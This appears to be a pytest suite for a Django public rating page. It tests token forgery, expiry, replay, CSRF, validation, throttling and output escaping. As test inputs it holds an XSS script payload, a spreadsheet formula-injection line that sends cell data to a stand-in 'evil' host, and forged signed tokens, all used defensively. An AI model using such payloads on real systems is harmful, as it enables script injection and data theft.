"""The public rating page `/csat/<token>/` (docs/csat.md): no login, one answer, in the customer's language with a
switch; forged, expired, replayed and other tickets' tokens answer 404/410 and change nothing; CSRF and a
throttle; a low rating notifies the brand's supervisors and may reopen the ticket."""

import re
from datetime import timedelta

import pytest
from django.core import mail, signing
from django.test import Client
from django.utils import timezone

from brands.services import csat as csat_settings
from tests.csat.conftest import dm_ticket
from tests.helpers import db_state
from tickets.models import CsatSurvey, Event, Notification, TicketStatus
from tickets.services import csat

pytestmark = pytest.mark.django_db
SCRIPT = '<script>alert("x")</script>'


@pytest.fixture
def survey(cast, surveyed, resolve):
    """A resolved Facebook DM ticket of brand A with its survey sent (console channel: no token on the account)."""
    cast.supervisor.email = "sup@example.com"
    cast.supervisor.save()
    ticket = dm_ticket(cast)
    ticket.channel_account.access_token = ""
    ticket.channel_account.save()
    resolve(ticket, cast.operator)
    found = CsatSurvey.objects.get(ticket=ticket)
    assert found.status == "sent"
    return found


def url(survey) -> str:
    return f"/csat/{csat.make_token(survey)}/"


def form_client(path: str) -> tuple[Client, str]:
    """A visitor with the page's CSRF cookie and token, as a phone's browser would have."""
    client = Client(enforce_csrf_checks=True)
    response = client.get(path)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', response.content.decode()).group(1)
    return client, token


def test_the_page_asks_one_question_in_the_customers_language_with_a_switch(survey):
    response = Client().get(url(survey))
    assert response.status_code == 200
    page = response.content.decode()
    assert '<html lang="id">' in page
    assert "Bagaimana layanan kami?" in page
    assert page.count('type="radio" name="rating"') == 5
    assert 'name="comment"' in page
    assert f'href="{url(survey)}?lang=en"' in page
    assert response["Cache-Control"] == "no-store"
    assert response["Referrer-Policy"] == "same-origin"
    english = Client().get(url(survey) + "?lang=en")
    assert '<html lang="en">' in english.content.decode()
    assert "How did we do?" in english.content.decode()


def test_one_answer_is_kept_and_a_second_one_is_told_already_answered(survey, cast):
    client, token = form_client(url(survey))
    response = client.post(url(survey), {"rating": "5", "comment": "Cepat!", "csrfmiddlewaretoken": token})
    assert response.status_code == 200
    assert "Terima kasih!" in response.content.decode()
    survey.refresh_from_db()
    assert (survey.rating, survey.comment) == (5, "Cepat!")
    assert Event.objects.filter(ticket=survey.ticket, kind="csat.answered").count() == 1
    assert not Notification.objects.filter(kind="csat.low").exists()  # 5 is no low rating

    before = db_state()
    again = client.post(url(survey), {"rating": "1", "comment": "ganti", "csrfmiddlewaretoken": token})
    assert again.status_code == 410
    assert "Sudah dijawab" in again.content.decode()
    assert db_state() == before
    assert Client().get(url(survey)).status_code == 410  # the link, replayed, shows the same


def test_a_low_rating_notifies_the_supervisors_and_mails_them(survey, cast, django_capture_on_commit_callbacks):
    client, token = form_client(url(survey))
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url(survey), {"rating": "2", "comment": SCRIPT, "csrfmiddlewaretoken": token})
    assert response.status_code == 200
    (notice,) = Notification.objects.filter(kind="csat.low")
    assert (notice.user, notice.ticket_id, notice.data["rating"]) == (cast.supervisor, survey.ticket_id, 2)
    (message,) = mail.outbox
    assert message.to == ["sup@example.com"]
    assert "2" in message.subject
    survey.ticket.refresh_from_db()
    assert survey.ticket.status == TicketStatus.RESOLVED  # the brand did not ask for reopening


def test_a_low_rating_reopens_the_ticket_when_the_brand_says_so(survey, cast):
    csat_settings.update_csat_settings(brand=cast.brand_a, values={"reopen_on_low": True, "low_rating": 3})
    client, token = form_client(url(survey))
    client.post(url(survey), {"rating": "3", "csrfmiddlewaretoken": token})
    survey.ticket.refresh_from_db()
    assert survey.ticket.status == TicketStatus.OPEN  # back to its owner
    reopened = Event.objects.get(ticket=survey.ticket, kind="ticket.reopened")
    assert reopened.actor is None
    assert reopened.data["reason"] == "csat"


def test_a_forged_token_is_a_404_and_changes_nothing(survey, settings):
    settings.SMRC_CSAT_REQUESTS_PER_MINUTE = 1000
    token = csat.make_token(survey)
    expiry = int(survey.expires_at.timestamp())
    before = db_state()
    for bad in (
        token[:-2] + ("AA" if not token.endswith("AA") else "BB"),  # the signature altered
        "x" * 40,
        "a:b:c",
        "x" * 5000,  # huge
        signing.Signer(salt="another.salt").sign_object({"s": survey.pk, "t": survey.ticket_id, "e": expiry}),
        signing.dumps({"s": survey.pk, "t": survey.ticket_id, "e": expiry}, salt=csat.SALT),  # with a timestamp
        signing.Signer(salt=csat.SALT).sign_object({"s": survey.pk, "t": survey.ticket_id, "e": expiry + 1}),
        signing.Signer(salt=csat.SALT).sign_object({"s": survey.pk + 1000, "t": survey.ticket_id, "e": expiry}),
        signing.Signer(salt=csat.SALT).sign_object({"s": str(survey.pk), "t": survey.ticket_id, "e": expiry}),
        signing.Signer(salt=csat.SALT).sign_object([survey.pk]),
        signing.Signer(salt=csat.SALT).sign("not json"),
    ):
        response = Client().post(f"/csat/{bad}/", {"rating": "1"})
        assert response.status_code in (403, 404), bad  # CSRF or not found: either way nothing read or written
        assert Client().get(f"/csat/{bad}/").status_code == 404
        assert "Tautan tidak ditemukan" in Client().get(f"/csat/{bad}/").content.decode()
    assert db_state() == before


def test_another_tickets_token_answers_only_its_own_ticket(survey, cast, resolve):
    other = dm_ticket(cast, item="m_2", author="psid-2")
    resolve(other, cast.operator)
    theirs = CsatSurvey.objects.get(ticket=other)
    # our survey id with the other ticket's id, signed by us: no such pair
    mixed = signing.Signer(salt=csat.SALT).sign_object(
        {"s": survey.pk, "t": other.pk, "e": int(survey.expires_at.timestamp())}
    )
    assert Client().get(f"/csat/{mixed}/").status_code == 404
    client, token = form_client(url(theirs))
    client.post(url(theirs), {"rating": "4", "csrfmiddlewaretoken": token})
    survey.refresh_from_db()
    theirs.refresh_from_db()
    assert (survey.rating, theirs.rating) == (None, 4)


def test_an_expired_link_is_a_410_and_changes_nothing(survey, monkeypatch):
    client, token = form_client(url(survey))
    later = survey.expires_at + timedelta(seconds=1)
    monkeypatch.setattr(timezone, "now", lambda: later)
    before = db_state()
    response = client.post(url(survey), {"rating": "5", "csrfmiddlewaretoken": token})
    assert response.status_code == 410
    assert "Tautan ini sudah kedaluwarsa" in response.content.decode()
    assert db_state() == before


def test_the_form_needs_its_csrf_token(survey):
    before = db_state()
    response = Client(enforce_csrf_checks=True).post(url(survey), {"rating": "5"})
    assert response.status_code == 403
    assert db_state() == before


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"rating": "6"}, "rating"),
        ({"rating": "0"}, "rating"),
        ({"rating": str(2**63)}, "rating"),
        ({}, "rating"),
        ({"rating": "5", "comment": "x" * 1001}, "comment"),
    ],
)
def test_bad_answers_are_a_400_naming_the_field(survey, data, field):
    client, token = form_client(url(survey))
    before = db_state()
    response = client.post(url(survey), {**data, "csrfmiddlewaretoken": token})
    assert response.status_code == 400
    assert f'id="id_{field}' in response.content.decode()
    assert 'class="csat-error"' in response.content.decode()
    assert db_state() == before


def test_a_script_in_the_comment_is_escaped_everywhere_it_is_shown(survey, cast, browser):
    client, token = form_client(url(survey))
    thanks = client.post(url(survey), {"rating": "1", "comment": SCRIPT, "csrfmiddlewaretoken": token})
    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
    assert SCRIPT not in thanks.content.decode()
    assert escaped in thanks.content.decode()
    page = browser(cast.supervisor).get(f"/tickets/{survey.ticket_id}/").content.decode()
    assert SCRIPT not in page
    assert escaped in page
    notices = browser(cast.supervisor).get("/notifications/").content.decode()
    assert SCRIPT not in notices
    today = timezone.localdate()
    query = f"start={today - timedelta(days=2):%Y-%m-%d}&end={today:%Y-%m-%d}"
    report = browser(cast.supervisor).get(f"/reports/acme/?{query}").content.decode()
    assert SCRIPT not in report
    assert 'id="csat"' in report
    drill = browser(cast.supervisor).get(f"/reports/acme/tickets/?{query}&metric=csat_rating&value=1")
    assert drill.status_code == 200
    assert f"T-{survey.ticket_id}" in drill.content.decode()


def test_formula_cells_in_the_ratings_export_are_neutralised(survey, cast, browser):
    client, token = form_client(url(survey))
    client.post(
        url(survey), {"rating": "1", "comment": '=HYPERLINK("https://evil/?"&A1)', "csrfmiddlewaretoken": token}
    )
    today = timezone.localdate()
    response = browser(cast.manager).get(
        f"/reports/acme/export/?start={today - timedelta(days=2):%Y-%m-%d}&end={today:%Y-%m-%d}&format=csv&data=csat"
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert body.splitlines()[0] == "ticket,brand,platform,priority,operator,rating,comment,answered_at"
    assert '"\'=HYPERLINK(""https://evil/?""&A1)"' in body
    assert ",=HYPERLINK" not in body


def test_the_page_is_throttled_per_address(survey, settings):
    settings.SMRC_CSAT_REQUESTS_PER_MINUTE = 3
    client = Client()
    statuses = [client.get(url(survey)).status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
    assert "Terlalu banyak permintaan" in client.get(url(survey)).content.decode()
